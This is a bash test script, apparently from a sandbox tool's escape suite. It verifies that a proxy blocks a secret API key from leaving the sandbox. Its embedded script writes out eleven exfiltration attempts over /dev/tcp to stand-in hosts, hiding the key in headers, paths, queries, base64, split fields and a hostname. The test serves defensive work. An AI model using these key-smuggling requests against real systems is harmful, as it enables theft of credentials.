#!/bin/bash
# SPDX-License-Identifier: LGPL-2.1-or-later
# attack: the box sends what it takes for a key to other hosts: in headers, addresses, bodies, encoded, cut
# promise: P5
# hole: secret-trip
# shellcheck source=tests/escape/lib.sh
. "$(dirname "$0")/../lib.sh"

P=$PLACE/project
project "$P"
value=sk-$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \n')
# Names that nobody has: what is not refused finds no server. $KEY is the box's.
cat >"$P/try" <<'BOX'
ask() {
    exec 3<>/dev/tcp/127.0.0.1/3128 || return
    printf '%b' "$2" >&3
    IFS= read -r -t 30 line <&3
    echo "$1 ${line:9:3}"
    exec 3>&-
}
host="Host: other.invalid.test\r\n"
get="GET http://other.invalid.test"
half=$((${#KEY} / 2)) coded=$(printf %s "ab$KEY" | base64 -w0)
ask header "$get/ HTTP/1.1\r\n${host}Authorization: Bearer $KEY\r\n\r\n"
ask own-plain "GET http://api.invalid.test/ HTTP/1.1\r\nHost: api.invalid.test\r\nAuthorization: Bearer $KEY\r\n\r\n"
ask path "$get/$KEY HTTP/1.1\r\n$host\r\n"
ask query "$get/?key=$KEY HTTP/1.1\r\n$host\r\n"
ask base64 "$get/ HTTP/1.1\r\n${host}X: $coded\r\n\r\n"
ask cut "$get/ HTTP/1.1\r\n${host}X: ${KEY:0:half}\r\nY: ${KEY:half}\r\n\r\n"
ask name "CONNECT $KEY.other.invalid.test:443 HTTP/1.1\r\nHost: x\r\n\r\n"
ask gateway "GET /other.invalid.test/ HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: $KEY\r\n\r\n"
ask place "GET /api.invalid.test/$KEY HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n\r\n"
ask foreign "GET /api.invalid.test/ HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: sk-of-somebody-else\r\n\r\n"
ask beside "GET /api.invalid.test/ HTTP/1.1\r\nHost: 127.0.0.1:3128\r\nX-Api-Key: sk-of-somebody-else, $KEY\r\n\r\n"
echo "shape ${#KEY} ${KEY:0:3}"
echo more >>text
echo done
BOX
KEY=$value box "$P" 'command -v bash >/dev/null || { echo no bash; exit; }; bash ./try' --secret KEY@api.invalid.test --allow-host '*.invalid.test'
if grep -q '^no bash$' "$out"; then cannot "the image has no bash"; fi
grep -q '^done$' "$out" || broken "the box did not run ($code)"
open=$(grep -vE '^(done|shape .*|[a-z0-9-]+ 403)$' "$out" || :)
[ -z "$open" ] || broken "not refused: $(printf %s "$open" | tr '\n' ';')"
[ "$(grep -c ' 403$' "$out")" -eq 11 ] || broken "only $(grep -c ' 403$' "$out") of 11 were refused"
grep -q '^shape 51 sk-$' "$out" || broken "the placeholder is not shaped like the key: $(grep '^shape' "$out")"
kept=$(grep -rlaszF -- "$value" "$XDG_STATE_HOME" "$XDG_CACHE_HOME" "$XDG_RUNTIME_DIR" "$out" "$err" || :)
[ -z "$kept" ] || broken "the key was kept on the host: $kept"
try tb inspect @last
grep -q 'placeholder' "$out" || broken "there is no finding of it"
grep -q 'foreign-key' "$out" || broken "there is no finding of somebody else's key"
try tb apply --check @last
[ "$code" -eq 8 ] || broken "nobody has to acknowledge it: apply ends with $code"
held
